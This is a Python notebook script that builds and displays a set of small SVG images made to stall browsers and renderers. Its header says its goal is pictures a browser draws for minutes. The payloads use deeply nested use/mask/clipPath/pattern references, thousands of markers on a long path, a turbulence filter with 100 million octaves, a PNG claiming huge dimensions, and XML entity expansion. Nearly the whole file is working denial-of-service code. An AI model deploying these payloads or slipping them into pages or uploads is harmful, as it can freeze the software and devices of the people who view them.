# tries: pictures of a few kilobytes that a browser draws for minutes: parts that use parts that use parts, masks in masks, clips in clips, markers at each of many points, octaves without end, pictures in pictures
# reaches: pictures
import base64

from IPython.display import HTML, SVG, display

def double(x):
    return x


def svg(body):
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">{body}<!-- siege_draws --></svg>'


def shown(tag, way, levels=9):
    parts = f'<{tag} id="p0"><rect width="9" height="9"/></{tag}>'
    for level in range(1, levels):
        parts += f'<{tag} id="p{level}">' + way.format(level - 1) * 10 + f"</{tag}>"
    return svg(parts + way.format(levels - 1))


point = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\1\0\0\0\0").decode()
pictures = [
    shown("g", '<use href="#p{}"/>'),
    shown("g", '<use xlink:href="#p{}"/>'),
    shown("symbol", '<use xlink:href=" #p{} "/>'),
    shown("mask", '<rect width="9" height="9" mask="url(#p{})"/>'),
    shown("mask", "<rect width='9' height='9' style='mask:url(\"#p{}\")'/>"),
    shown("mask", "<rect width='9' height='9' style='mask:\\75rl(#p{})'/>"),
    shown("clipPath", '<rect width="9" height="9" clip-path="url( #p{} )"/>'),
    shown("pattern", '<rect width="9" height="9" fill="url(#p{})"/>'),
    svg('<marker id="m">' + "<rect/>" * 9000 + '</marker><path marker-mid="url(#m)" d="M0 0' + "L1 1" * 9000 + '"/>'),
    svg("<style>path {marker-mid: url(#m)}</style><marker id='m'>" + "<rect/>" * 9000 + "</marker><path d='M0 0" + "L1 1" * 9000 + "'/>"),
    svg('<filter id="f"><feTurbulence baseFrequency="0.01" numOctaves="100000000"/></filter><rect width="99" height="99" filter="url(#f)"/>'),
    svg(f'<image href="data:image/png;base64,{point}" width="9" height="9"/>'),
    svg('<foreignObject width="9" height="9"><table xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
    '<!DOCTYPE svg [<!ENTITY a "<rect/><rect/>"><!ENTITY b "&a;&a;">]>' + svg("&b;"),
]
for picture in pictures:
    display({"image/svg+xml": picture, "text/plain": "pictures"}, raw=True)
    code = base64.b64encode(picture.encode()).decode()
    display(HTML(f'<img src="data:image/svg+xml;base64,{code}">'))
